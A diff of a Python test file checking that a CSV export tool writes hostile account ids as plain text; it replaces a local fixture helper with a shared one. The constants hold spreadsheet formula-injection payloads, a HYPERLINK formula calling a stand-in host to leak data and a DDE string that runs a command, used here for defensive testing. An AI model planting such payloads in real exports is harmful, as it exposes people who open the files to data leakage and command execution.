@@ -8,11 +8,10 @@ from __future__ import annotations
 import csv
 import io
 import re
-import shutil
-from importlib.resources import files
 from pathlib import Path
 
 import pytest
+from cli_books import renamed_demo
 from fastapi.testclient import TestClient
 from typer.testing import CliRunner
 
@@ -25,22 +24,6 @@ FORMULA = '=HYPERLINK("http://x.example/?leak","FOX")'
 """The account id A08_FOX_FUT becomes: a formula that would open a link."""
 OPERATOR = "-2+3+cmd|' /C notepad'!A0"
 NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
-
-
-def _hostile_book(to: Path) -> Path:
-    source = files("marginlex.engine.book") / "demo_book"
-    to.mkdir()
-    for entry in source.iterdir():
-        if entry.name.endswith((".csv", ".json")):
-            shutil.copy(str(entry), to / entry.name)
-    for path in to.glob("*.csv"):
-        with path.open(newline="", encoding="utf-8") as f:
-            rows = list(csv.reader(f))
-        changed = {"A08_FOX_FUT": FORMULA}
-        rows = [rows[0]] + [[changed.get(v, v) for v in row] for row in rows[1:]]
-        with path.open("w", newline="", encoding="utf-8") as f:
-            csv.writer(f).writerows(rows)
-    return to
 
 
 def _cells(text: str) -> list[str]:
@@ -57,7 +40,7 @@ def _assert_no_formula(text: str) -> list[str]:
 
 @pytest.fixture(scope="module")
 def book(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    return _hostile_book(tmp_path_factory.mktemp("csv") / "book")
+    return renamed_demo(tmp_path_factory.mktemp("csv") / "book", {"A08_FOX_FUT": FORMULA})
 
 
 def test_run_format_csv_writes_the_formula_id_as_text(book: Path) -> None:
